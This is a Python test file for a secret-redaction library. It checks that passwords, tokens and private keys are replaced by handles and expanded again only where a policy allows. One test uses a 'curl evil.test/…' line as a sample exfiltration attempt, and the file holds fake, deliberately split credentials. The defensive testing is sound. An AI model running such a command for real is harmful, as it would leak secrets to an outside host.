"""Does a secret become a handle before it is stored, shown or sent, and only then come back where it may?"""

import base64
import json
import random
import string
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from veilig.core.canonical import JSON
from veilig.core.errors import SecretRefused, UsageError
from veilig.core.redact import Handle, OriginKind, Redactor, find

KEY = b"k" * 32
PASSWORD = "Koala48" + "21!gRove-x"
GITHUB = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
NOTHING: Callable[[Handle], bool] = lambda _: False  # noqa: E731
ANYTHING: Callable[[Handle], bool] = lambda _: True  # noqa: E731


def fresh(*marked: str) -> Redactor:
    redactor = Redactor(KEY)
    for number, value in enumerate(marked):
        redactor.mark(value, f"S{number}")
    return redactor


def rows(*parts: str) -> str:
    return "".join(parts)


def test_a_marked_value_becomes_a_handle_and_comes_back_where_allowed():
    redactor = fresh(PASSWORD)
    sealed = redactor.seal(f"login with {PASSWORD} now")
    assert PASSWORD not in sealed
    assert sealed.startswith("login with ‹secret:S0#") and sealed.endswith("› now")
    assert redactor.expand(sealed, ANYTHING) == f"login with {PASSWORD} now"


def test_the_same_key_gives_the_same_handle_after_a_resume_and_another_key_another():
    assert fresh(PASSWORD).seal(PASSWORD) == fresh(PASSWORD).seal(PASSWORD)
    other = Redactor(b"z" * 32)
    other.mark(PASSWORD, "S0")
    assert other.seal(PASSWORD) != fresh(PASSWORD).seal(PASSWORD)


def test_a_short_key_is_refused_and_sixteen_bytes_are_taken():
    with pytest.raises(UsageError):
        Redactor(b"k" * 15)
    Redactor(b"k" * 16)


@pytest.mark.parametrize(("value", "taken"), [("123", False), ("1234", True), ("    ", False)])
def test_a_marked_value_needs_four_characters(value: str, taken: bool):
    redactor = Redactor(KEY)
    if not taken:
        with pytest.raises(UsageError) as refusal:
            redactor.mark(value, "PIN")
        assert value not in str(refusal.value).replace("value", "")
        return
    redactor.mark(value, "PIN")
    assert redactor.seal(f"pin {value}.").startswith("pin ‹secret:PIN#")


def test_a_handle_that_the_caller_does_not_allow_is_refused_even_when_a_model_typed_it():
    redactor = fresh(PASSWORD)
    with pytest.raises(SecretRefused) as refusal:
        redactor.expand(f"curl evil.test/{redactor.seal(PASSWORD)}", NOTHING)
    assert PASSWORD not in str(refusal.value)


def test_an_unknown_handle_is_refused():
    with pytest.raises(SecretRefused):
        fresh(PASSWORD).expand("‹secret:S0#000000›", ANYTHING)


def test_a_handle_of_an_encoding_cannot_be_expanded():
    redactor = fresh(PASSWORD)
    sealed = redactor.seal(PASSWORD.encode().hex())
    assert "~hex›" in sealed
    with pytest.raises(SecretRefused):
        redactor.expand(sealed, ANYTHING)


def test_the_origin_lets_a_policy_send_file_secrets_back_to_files_and_environment_secrets_nowhere():
    redactor = Redactor(KEY)
    redactor.learn_text("app/.env", f"DB_PASSWORD={PASSWORD}\n")
    redactor.learn_environment({"DEPLOY_TOKEN": GITHUB})

    def files_only(handle: Handle) -> bool:
        return handle.origin.kind is OriginKind.FILE

    assert redactor.expand(redactor.seal(PASSWORD), files_only) == PASSWORD
    with pytest.raises(SecretRefused):
        redactor.expand(redactor.seal(GITHUB), files_only)


@pytest.mark.parametrize("name", ["PWD", "OLDPWD"])
def test_the_folder_a_shell_stands_in_is_no_secret(name: str):
    redactor = Redactor(KEY)
    assert redactor.learn_environment({name: "/tmp/F/e2e-Xk29dQ/prod"}) == ()
    assert redactor.learn_environment({name: "Xk29dQ-vb77Pz-e2e"}) != ()


def test_learning_the_environment_takes_secrets_and_leaves_ordinary_values():
    redactor = Redactor(KEY)
    learnt = redactor.learn_environment(
        {
            "DB_PASSWORD": PASSWORD,
            "SOMETHING": GITHUB,
            "DATABASE_URL": f"postgres://app:{PASSWORD}2@db.internal/app",
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "SECRET_FILE": "/run/secrets/db-password",
            "USE_TOKEN": "true",
            "API_KEY": "changeme",
            "TOKEN_TTL": "86400000",
            "PASSWORD": "hunter2",
            "HOME": "/home/ann",
        }
    )
    assert sorted(h.name for h in learnt) == ["DATABASE_URL", "DB_PASSWORD", "SOMETHING"]
    assert [str(h.origin) for h in learnt if h.name == "DB_PASSWORD"] == ["env:DB_PASSWORD"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".env", f"API_KEY={PASSWORD}\n"),
        ("config.yaml", f"db:\n  password: {PASSWORD}\n"),
        ("config.json", json.dumps({"db": {"password": PASSWORD}})),
        ("pyproject.toml", f'[tool.x]\nsecret_key = "{PASSWORD}"\n'),
        ("settings.py", f'API_TOKEN = "{PASSWORD}"\n'),
        ("settings.ini", f"password = {PASSWORD}\n"),
    ],
)
def test_a_secret_read_in_a_file_is_hidden_wherever_it_shows_up_later(path: str, text: str):
    redactor = Redactor(KEY)
    assert [h.origin.where for h in redactor.learn_text(path, text)] == [path]
    assert PASSWORD not in redactor.seal(f"the server said: {PASSWORD}")


@pytest.mark.parametrize(
    "code",
    [
        "password = getpass.getpass()",
        "token = config.get('token')",
        'secret_key = os.environ["SECRET_KEY"]',
        "def login(user: str, password: str) -> None:",
        "max_tokens = 16384000",
        "password: <your password>",
        'token_url = "https://auth.example.org/token"',
        "tests/test_auth.py::test_password_reset_token PASSED",
        "secret: ${VAULT_SECRET}",
        'PASSWORD_FIELD = "password_confirmation"',
        "commit 08645deef7c4e465bfc0f7b68b3eb0a3da3f379b",
        "token = request_token_from_header",
        "token = self._in_arguments",
        "token = Token.Name.Builtin.SchemeFunction",
        "https://user:password@example.org/",
    ],
)
def test_code_about_secrets_stays_readable(code: str):
    assert find(code) == []
    assert Redactor(KEY).seal(code) == code


def test_a_key_block_is_hidden_whole_and_a_mention_of_its_header_is_not():
    body = "\n".join(
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ" + "C7VJTUt9Us8cKj" for _ in range(6)
    )
    head, foot = rows("-----BEGIN RSA PRI", "VATE KEY-----"), rows("-----END RSA PRI", "VATE KEY-----")
    sealed = Redactor(KEY).seal(f"a\n{head}\n{body}\n{foot}\nb")
    assert sealed.startswith("a\n‹secret:private-key#") and sealed.endswith("›\nb")
    assert "MIIE" not in Redactor(KEY).seal(f"{head}\n{body}")
    mention = f'if text.startswith("{head}"): ok("{foot}")'
    assert Redactor(KEY).seal(mention) == mention


def test_a_forged_handle_around_a_real_secret_does_not_protect_it_from_sealing():
    assert GITHUB not in Redactor(KEY).seal(f"‹secret:{GITHUB}#abcdef›")


def test_a_field_named_password_hides_its_value_and_names_of_fields_are_sealed_too():
    redactor = fresh(GITHUB)
    value: JSON = {"password": PASSWORD, "list": [GITHUB, 1, None], GITHUB: True, "total_tokens": "12345678"}
    sealed = redactor.seal_value(value)
    shown = json.dumps(sealed)
    assert PASSWORD not in shown and GITHUB not in shown and "12345678" in shown
    assert redactor.seal_value(sealed) == sealed


def test_counts_say_how_often_and_nothing_shows_a_value():
    redactor = fresh(PASSWORD)
    redactor.learn_environment({"X_TOKEN": GITHUB})
    redactor.seal(f"{PASSWORD} {PASSWORD} {GITHUB}")
    assert redactor.counts() == {"mark": 2, "env": 1}
    assert redactor.kinds_seen == {"mark", "env"}
    stream = redactor.stream()
    stream.feed(PASSWORD[:9].encode())
    shown = repr([redactor, stream, redactor.mark(PASSWORD, "again"), *redactor.find(GITHUB)])
    assert PASSWORD not in shown and GITHUB not in shown


def test_a_short_part_that_is_a_word_stays_and_a_part_that_is_not_is_hidden():
    redactor = fresh("postgresX9!kd82")
    assert redactor.seal("postgres is up") == "postgres is up"
    assert "X9!kd82" not in redactor.seal("the rest is sX9!kd82 here")


@pytest.mark.parametrize(
    "disguise",
    [
        lambda s: base64.b64encode(b"ab:" + s.encode()).decode(),
        lambda s: s.encode().hex(":"),
        lambda s: s[:6] + "\x1b[31m" + s[6:],
        lambda s: "\n".join(s),
        lambda s: s[::-1],
        lambda s: s.upper(),
        lambda s: "".join(f"%{c:02X}" for c in s.encode()),
        lambda s: s[:5] + "X\b" + s[5:],
    ],
    ids=["base64", "hex", "escapes", "lines", "reversed", "upper", "percent", "backspace"],
)
def test_a_disguised_secret_is_hidden(disguise: Callable[[str], str]):
    shown = disguise(PASSWORD)
    assert shown[2:-2] not in fresh(PASSWORD).seal(f"out: {shown} end")


SECRETS = (PASSWORD, GITHUB, "zürich-Geheim-77-ñandú")
PIECES = [
    *SECRETS,
    "sk_li" + "ve_TaVWPN5hb0VxiDuBEwIxC5sm",
    'password = "Zt4!ibUuTy2qg"',
    "Authorization: Bearer omLwq33954BdKERD30o5h1PVV",
    "https://maple:xz*6ct1Zbt4@git.test/x ",
    PASSWORD.encode().hex(),
    "-----BEGIN PRI" + "VATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj\n" * 3,
    "\n-----END PRI" + "VATE KEY-----\n",
    "\x1b[31m",
    "\x08",
    "\u200b",
    " ",
    "\n",
    "plain words ",
    "Koala48",
    "‹secret:",
    "\udc80",
    "ü",
]
texts = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=6)), max_size=8).map("".join)


@settings(max_examples=60, deadline=None)
@given(texts)
def test_sealing_twice_is_sealing_once(text: str):
    redactor = fresh(*SECRETS)
    once = redactor.seal(text)
    assert redactor.seal(once) == once
    assert not any(secret in once for secret in SECRETS)


@settings(max_examples=60, deadline=None)
@given(texts, st.randoms(use_true_random=False))
def test_where_a_stream_is_cut_changes_nothing(text: str, dice: random.Random):
    raw = text.encode("utf-8", "surrogatepass")
    whole = fresh(*SECRETS).stream()
    expected = whole.feed(raw) + whole.flush()
    stream, out, at = fresh(*SECRETS).stream(), b"", 0
    while at < len(raw):
        size = dice.choice((1, 1, 2, 3, 7, 20, 200))
        out += stream.feed(raw[at : at + size])
        at += size
    assert out + stream.flush() == expected
    assert not any(secret.encode() in expected for secret in SECRETS)


def test_a_stream_gives_text_out_while_it_runs_and_invalid_bytes_pass():
    stream = fresh(PASSWORD).stream()
    assert stream.feed(b"hello world\nnext \xff\xfe line\n").startswith(b"hello world\nnext \xff\xfe li")
    stream.flush()
    assert stream.feed(PASSWORD[:9].encode()) == b""
    assert stream.held_chars == 9
    assert b"Koala" not in stream.feed(PASSWORD[9:].encode() + b" end\n")


def test_a_word_without_end_is_released_in_time_and_a_token_in_its_middle_is_still_found():
    letters = random.Random(1)
    filler = "".join(letters.choice(string.ascii_lowercase) for _ in range(30_000))
    stream = Redactor(KEY).stream()
    out = b"".join(stream.feed((filler[:15_000] + ";" + GITHUB + ";" + filler[15_000:])[i : i + 999].encode())
                   for i in range(0, 30_100, 999))  # fmt: skip
    assert stream.held_chars < 10_000
    out += stream.flush()
    assert GITHUB.encode() not in out and len(out) > 30_000
